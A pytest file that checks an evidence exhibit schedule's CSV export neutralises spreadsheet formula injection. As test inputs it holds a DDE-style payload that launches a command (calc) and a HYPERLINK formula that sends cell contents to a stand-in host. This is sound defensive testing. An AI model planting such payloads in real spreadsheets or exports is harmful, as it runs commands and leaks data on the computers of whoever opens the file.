"""The CPS exhibit schedule CSV never carries a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from evidence.model import EvidenceItem
from evidence.schedule import ScheduleRow, schedule_csv

T0 = datetime(2026, 11, 25, 21, 14, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Open exhibit")'


def row(device: str, officer: str = "PC4521", name: str = "clip.mp4") -> ScheduleRow:
    item = EvidenceItem(
        id="a" * 32,
        sha256="b" * 64,
        size=1,
        kind="bwv",
        original_name=name,
        source_path=name,
        storage_key="k",
        store_location="file:///store/k",
        ingested_at=T0,
        officer=officer,
        device=device,
        recorded_at=T0,
        duration=60.0,
    )
    return ScheduleRow("JS/1", item, "data/JS-1/clip.mp4", ())


def parsed(rows: list[ScheduleRow]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(schedule_csv(rows).decode("utf-8"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_evaluate_is_neutralised(start: str) -> None:
    value = f"{start}1+2*cmd|' /C calc'!A0"
    [cells] = parsed([row(device=value, officer=value)])
    assert cells["Device"] == "'" + value
    assert cells["Officer"] == "'" + value


def test_the_hyperlink_formula_is_text_in_the_csv_and_true_everywhere_else() -> None:
    schedule_row = row(device=FORMULA)
    [cells] = parsed([schedule_row])
    assert cells["Device"] == "'" + FORMULA
    assert FORMULA in schedule_row.cells()  # what the HTML schedule shows: the true value
    assert schedule_row.item.device == FORMULA


def test_ordinary_cells_are_unchanged() -> None:
    [cells] = parsed([row(device="AXON-0042", name="999 call.wav")])
    assert cells["Device"] == "AXON-0042"
    assert cells["Exhibit ref"] == "JS/1"
    assert cells["Recorded start (UTC)"].startswith("2026-11-25T21:14:00")
    assert cells["SHA-256"] == "b" * 64
